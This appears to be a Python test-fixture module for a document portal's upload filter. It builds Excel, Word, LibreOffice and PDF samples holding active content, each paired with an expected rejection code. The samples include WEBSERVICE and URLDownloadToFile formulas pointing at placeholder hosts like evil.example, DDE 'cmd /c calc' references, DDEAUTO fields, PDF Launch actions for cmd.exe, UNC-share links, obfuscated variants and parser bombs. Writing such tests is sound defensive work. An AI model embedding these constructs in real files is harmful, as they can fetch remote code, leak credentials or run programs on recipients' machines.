"""Documents that fetch or act by means nobody thought of when lists were of what is forbidden: name → (build, code)."""

import zlib

from pikepdf import Array, Dictionary, Name, String

from tests.factories.documents import W as WORDS
from tests.factories.documents import docx, odt, relations, xlsx
from tests.tetouan_portal.lib.hostile_documents import field, word_relations
from tests.tetouan_portal.lib.hostile_pdfs import action, annotation, at_page, at_root, link, pdf, with_stream, written

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
SHARE = "\\\\198.51.100.7\\share"


def cell(formula):
    return lambda: xlsx(cells=f'<c r="B2"><f>{formula}</f></c>')


def beside(content):
    """A part of a workbook beside its first sheet."""
    return lambda: xlsx({"xl/worksheets/sheet2.xml": content})


def drawing(inside):
    return lambda: docx(body=f"<w:p><w:r><w:pict {V}>{inside}</w:pict></w:r></w:p>")


def svg(inside):
    return lambda: docx({"word/media/image1.svg": SVG.format(inside)})


def open_cell(formula):
    return lambda: odt(kind="spreadsheet", body=f"<table:table-cell table:formula='{formula}'/>")


def drawn_by_reference():
    def draw(document, page):
        form = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
        form.Ref = Dictionary(F=String("http://x.example/a.pdf"), Page=0)
        page.obj.Resources = Dictionary(XObject=Dictionary(F0=form))

    return pdf(draw)


def chapter(target):
    def add(document, page):
        first = document.make_indirect(Dictionary(Title=String("Chapitre"), A=target))
        document.Root.Outlines = document.make_indirect(Dictionary(First=first, Last=first, Count=1))

    return lambda: pdf(add)


def cut_off(ending=b"%%EOF"):
    """The first half of a file whose second half told where everything lies."""
    stream = b"<</Length 400>>\nstream\n" + b"0 0 m " * 66 + b"    \nendstream"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents[4 0 R 5 0 R]>>"
    whole = written([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, stream, stream])
    half = whole[: whole.rindex(b"5 0 obj")]
    return half + b"trailer\n<</Root 1 0 R/Size 6>>\n" + ending


MAIL_MERGE = (
    "<w:mailMerge><w:mainDocumentType w:val='formLetters'/><w:connectString w:val='Provider=x;Data Source=http://x'/>"
    "</w:mailMerge>"
)

FUNCTIONS = {
    "Excel: picture of a function": (cell('_xlfn.IMAGE("http://evil.example/"&amp;A1)'), "function"),
    "Excel: data as they come": (cell('RTD("prog.id",,"a")'), "function"),
    "Excel: call of a library": (cell('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x","a")'), "function"),
    "Excel: call by register": (cell('REGISTER.ID("kernel32","WinExec")'), "function"),
    "Excel: function before a space": (cell('WEBSERVICE  ("http://x.example")'), "function"),
    "Excel: function before a new line": (cell('WEBSERVICE\n("http://x.example")'), "function"),
    "Excel: function in wide letters": (cell('ＷＥＢＳＥＲＶＩＣＥ("http://x.example")'), "function"),
    "Excel: function handed on by its name": (cell("_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)"), "function"),
    "Excel: function of nobody": (cell("MALICIOUS(1)"), "function"),
    "Excel: function of a table on the web": (
        cell('IFERROR(__xludf.DUMMYFUNCTION("IMPORTDATA(""http://x.example"")"),1)'),
        "function",
    ),
    "Excel: function in a name": (
        lambda: xlsx(defined='<definedNames><definedName name="a">IMAGE("http://x")</definedName></definedNames>'),
        "function",
    ),
    "Excel: function in a format": (
        beside('<worksheet><cfRule type="expression"><formula>WEBSERVICE("http://x")=1</formula></cfRule></worksheet>'),
        "function",
    ),
    "Excel: function in the limit of a format": (
        beside('<worksheet><cfvo type="formula" val="WEBSERVICE(&quot;http://x&quot;)"/></worksheet>'),
        "function",
    ),
    "Excel: function in a check": (
        beside('<worksheet><dataValidation><formula1>RTD("a",,"b")</formula1></dataValidation></worksheet>'),
        "function",
    ),
    "Excel: function in a small chart": (
        beside('<worksheet xmlns:xm="x"><xm:f>IMAGE("http://x")</xm:f></worksheet>'),
        "function",
    ),
    "Excel: function of a pivot table": (
        lambda: xlsx({"xl/pivotTables/a.xml": '<a><cacheField formula="WEBSERVICE(A)"/></a>'}),
        "function",
    ),
    "Excel: function with an element inside": (cell("WEB<x/>SERVICE(1)"), "function"),
    "LibreOffice: function that asks the web": (open_cell('of:=COM.MICROSOFT.WEBSERVICE("http://x")'), "function"),
    "LibreOffice: function in Excel's language": (open_cell('msoxl:=WEBSERVICE("http://x")'), "function"),
    "LibreOffice: function in a name": (
        lambda: odt(kind="spreadsheet", body="<table:named-expression table:expression='of:=DDE(1;2;3)'/>"),
        "function",
    ),
    "LibreOffice: function in a check": (
        lambda: odt(kind="spreadsheet", body="<a table:condition='of:is-true-formula(WEBSERVICE(1))'/>"),
        "function",
    ),
    "LibreOffice: function in a format": (
        lambda: odt(
            kind="spreadsheet",
            body='<condition xmlns:calcext="c" calcext:value="formula-is(WEBSERVICE(&quot;x&quot;))"/>',
        ),
        "function",
    ),
}
REFERENCES = {
    "Excel: workbook on a share": (cell("'\\\\evil\\share\\[b.xlsx]S'!A1"), "reference"),
    "Excel: workbook on the web": (cell("'https://evil.example/[b.xlsx]S'!A1"), "reference"),
    "Excel: workbook by number": (cell("[1]Sheet1!A1"), "reference"),
    "Excel: workbook by number, in quotation marks": (cell("'[1]Sheet 1'!A1"), "reference"),
    "Excel: workbook by its name": (cell("budget.xlsx!total"), "reference"),
    "Excel: workbook in a text": (cell("INDIRECT(\"'\\\\evil\\[b.xlsx]S'!A1\")"), "reference"),
    "Excel: workbook behind a chart": (
        lambda: xlsx({"xl/charts/chart1.xml": "<c xmlns:c='c'><c:f>[1]S!$A$1</c:f></c>"}),
        "reference",
    ),
    "Excel: workbook behind a box": (
        lambda: xlsx({"xl/drawings/drawing1.xml": '<sp textlink="[1]S!$A$1"/>'}),
        "reference",
    ),
    "LibreOffice: table elsewhere": (open_cell("of:=[&apos;file:///C:/b.ods&apos;#$S.A1]"), "reference"),
    "LibreOffice: table on the web": (open_cell("of:=&apos;http://x/b.ods&apos;#$S.A1"), "reference"),
    "LibreOffice: range elsewhere": (
        lambda: odt(
            kind="spreadsheet",
            body='<a table:cell-range-address="&apos;file:///b.ods&apos;#$S.A1:.B2" table:name="a"/>',
        ),
        "reference",
    ),
    "LibreOffice: command in Excel's language": (open_cell("msoxl:=cmd|&apos;/c calc&apos;!A0"), "reference"),
}
LINKS = {
    "Excel: link of a function to a share": (cell(f'HYPERLINK("{SHARE}","a")'), "link"),
    "Excel: link of a function to wherever a cell says": (cell("HYPERLINK(A1)"), "link"),
    "Word: field with a link to a share": (field('HYPERLINK "\\\\\\\\evil\\\\share"'), "link"),
    "Word: field with a link to wherever another says": (
        lambda: docx(
            body='<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK "</w:instrText>'
            '<w:fldChar w:fldCharType="begin"/><w:instrText>REF a</w:instrText><w:fldChar w:fldCharType="end"/>'
            '<w:instrText>"</w:instrText><w:fldChar w:fldCharType="end"/></w:r>'
        ),
        "link",
    ),
    "Word: link to a program on the drive": (
        word_relations("hyperlink", "file:///C:\\Windows\\System32\\calc.exe", "External"),
        "link",
    ),
    "Word: link without a scheme to a share": (word_relations("hyperlink", "/\\evil\\share", "External"), "link"),
    "Word: link of a shape to a share": (drawing(f'<v:shape href="{SHARE}"/>'), "link"),
    "Word: all links begin with a share": (
        lambda: docx({"docProps/app.xml": f"<Properties><HyperlinkBase>file:///{SHARE}</HyperlinkBase></Properties>"}),
        "link",
    ),
    "LibreOffice: link to a program on the drive": (
        lambda: odt(body='<text:a xlink:href="file:///C:/Windows/System32/calc.exe">a</text:a>'),
        "link",
    ),
    "PDF: all links begin with a script": (at_root("/URI", Dictionary(Base=String("javascript:"))), "link"),
    "PDF: chapter that is a script": (chapter(action("URI", URI=String("javascript:alert(1)"))), "link"),
    "PDF: link of before to a share": (
        annotation(Subtype=Name.Link, PA=action("URI", URI=String(SHARE))),
        "link",
    ),
}
FETCHING = {
    "Word: old drawing from the web": (drawing('<v:imagedata src="http://evil.example/a.png"/>'), "external"),
    "Word: old drawing from a share": (drawing(f'<v:fill o:href="{SHARE}"/>'), "external"),
    "Word: old drawing from the web by relation": (
        word_relations("image", "http://evil.example/a", "External"),
        "external",
    ),
    "Word: drawing with a picture from the web": (svg('<image href="http://evil.example/a.png"/>'), "external"),
    "Word: drawing with a picture from the web, in the old way": (
        svg('<image xlink:href="//evil/a.png"/>'),
        "external",
    ),
    "Word: drawing with a style from the web": (svg("<style>@import 'http://evil.example/a.css'</style>"), "external"),
    "Word: drawing filled from the web": (svg('<rect style="fill:url(http://evil.example/a#b)"/>'), "external"),
    "Word: drawing with a page inside": (svg("<foreignObject/>"), "active"),
    "Word: drawing that acts when it is shown, under another name": (
        lambda: docx({"word/drawing.xml": SVG.format('<rect onload="fetch(1)"/>')}),
        "active",
    ),
    "Word: drawing whose style lies elsewhere": (
        lambda: docx({"word/media/image1.svg": '<?xml-stylesheet href="http://evil/a.css"?>' + SVG.format("")}),
        "external",
    ),
    "Word: drawing with a data script": (svg('<a href="javascript:alert(1)"/>'), "active"),
    "Word: letter tied to a list": (
        lambda: docx({"word/settings.xml": f"<w:s {WORDS}>{MAIL_MERGE}</w:s>"}),
        "mail_merge",
    ),
    "Word: text of another document in a field": (field("RD C:\\\\a.docx"), "field"),
    "Word: macro behind a field": (field("MACROBUTTON FileExit Click"), "field"),
    "Word: control in a field": (field("CONTROL Forms.CommandButton.1"), "field"),
    "Word: field of nobody": (field("MALICIOUS a"), "field"),
    "Word: field whose name another gives": (
        lambda: docx(
            body='<w:r><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>REF a'
            '</w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/></w:r>'
        ),
        "field",
    ),
    "Word: field of which a deleted word is the name": (
        lambda: docx(
            body='<w:r><w:fldChar w:fldCharType="begin"/><w:delInstrText>ADDIN ZOTERO_ITEM </w:delInstrText>'
            '<w:instrText>DDEAUTO cmd</w:instrText><w:fldChar w:fldCharType="end"/></w:r>'
        ),
        "field",
    ),
    "Word: field with an alternative that programs skip": (
        lambda: docx(
            body='<w:r><w:fldChar w:fldCharType="begin"/><mc:AlternateContent xmlns:mc="m"><w:instrText>ADDIN ZOTERO_'
            "</w:instrText></mc:AlternateContent><w:instrText>DDE cmd</w:instrText></w:r>"
        ),
        "field",
    ),
    "Excel: macro behind a picture": (
        lambda: xlsx({"xl/drawings/drawing1.xml": '<sp macro="[0]!Start"/>'}),
        "active",
    ),
    "Excel: macro behind a button": (
        lambda: xlsx({"xl/drawings/vmlDrawing1.vml": "<xml><x:FmlaMacro>[0]!Start</x:FmlaMacro><br></xml>"}),
        "active",
    ),
    "Excel: old drawing from the web": (
        lambda: xlsx({"xl/drawings/vmlDrawing1.vml": "<xml><v:imagedata src='http://evil.example/a'><br></xml>"}),
        "external",
    ),
    "Excel: data as they come, by relation": (
        lambda: xlsx({"xl/_rels/workbook.xml.rels": relations(("volatileDependencies", "volatile.xml", ""))}),
        "external",
    ),
    "LibreOffice: picture of a form from the web": (
        lambda: odt(body='<form:image xmlns:form="f" form:image-data="http://evil.example/a.png"/>'),
        "external",
    ),
    "LibreOffice: script in the text": (lambda: odt(body="<text:script>a</text:script>"), "active"),
    "LibreOffice: macro in a field": (lambda: odt(body="<text:execute-macro/>"), "active"),
    "LibreOffice: drawing with a picture from the web": (
        lambda: odt({"Pictures/a.svg": SVG.format('<image href="http://evil.example/a.png"/>')}),
        "external",
    ),
    "PDF: file on the web that belongs to it": (
        at_root("/AF", Array([Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("http://x.example"))])),
        "external",
    ),
    "PDF: file elsewhere that belongs to it": (at_root("/AF", Array([Dictionary(F=String(SHARE))])), "external"),
    "PDF: file elsewhere that is named": (
        at_root("/X", Dictionary(Type=Name.Filespec, UF=String(SHARE))),
        "external",
    ),
    "PDF: page of another file": (drawn_by_reference, "external"),
    "PDF: article of another file": (link("Thread", F=String("http://x.example/a.pdf"), D=0), "action"),
    "PDF: article": (link("Thread", D=0), "action"),
    "PDF: hides what is on a page": (link("Hide", T=String("a")), "action"),
    "PDF: switches layers": (link("SetOCGState", State=Array([])), "action"),
    "PDF: prints on a click": (link("Named", N=Name.Print), "action"),
    "PDF: action of nobody": (link("Malicious"), "action"),
    "PDF: chapter that starts a program": (chapter(action("Launch", F=String("cmd.exe"))), "action"),
    "PDF: link that goes on to hide something": (
        link("URI", URI=String("https://www.example.org"), Next=action("Hide", T=String("a"))),
        "action",
    ),
    "PDF: link of before that hides something": (
        annotation(Subtype=Name.Link, PA=action("Hide", T=String("a"))),
        "action",
    ),
    "PDF: goes to a place in a file that it names": (link("GoTo", D=0, F=String("a.pdf")), "action"),
    "PDF: film to which nothing leads": (at_root("/X", action("Rendition", OP=0)), "action"),
    "PDF: pictures that a printer fetches": (
        with_stream(lambda: zlib.compress(b"x"), OPI=Dictionary({"/2.0": Dictionary(Type=Name.OPI)})),
        "external",
    ),
    "PDF: thing of nobody on a page": (annotation(Subtype=Name.Malicious), "action"),
    "PDF: opens, then goes on": (
        at_root("/OpenAction", action("GoTo", D=Array([]), Next=action("URI", URI=String("http://x")))),
        "active",
    ),
    "PDF: page of a thousand million points": (at_page("/MediaBox", Array([0, 0, 10**9, 10**9])), "too_large_page"),
    "PDF: page of a hundred metres": (at_page("/MediaBox", Array([0, 0, 100, 283_500])), "too_large_page"),
    "PDF: page of a million units": (at_page("/UserUnit", 10**6), "too_large_page"),
    "PDF: cut off, with an end behind it": (cut_off, "damaged"),
    "PDF: cut off, with a whole end behind it": (lambda: cut_off(b"startxref\n0\n%%EOF"), "damaged"),
}
EXHAUSTING = {
    "Word: 2,000,000 elements in each other": (lambda: docx(body="<w:p>" * 2_000_000 + "</w:p>" * 2_000_000), "bomb"),
    "Word: 1,500 elements in each other": (lambda: docx(body="<w:p>" * 1500 + "</w:p>" * 1500), "bomb"),
    "LibreOffice: 2,000,000 elements in each other": (
        lambda: odt(body="<text:p>" * 2_000_000 + "</text:p>" * 2_000_000),
        "bomb",
    ),
    "Word: 140 million letters from 137,000": (lambda: docx(body=f"<w:t>{' ' * 140_000_000}</w:t>"), "bomb"),
    "Excel: a formula of 100,000 letters": (cell("1+" * 50_000 + "1"), "bomb"),
}

FILES = FUNCTIONS | REFERENCES | LINKS | FETCHING | EXHAUSTING
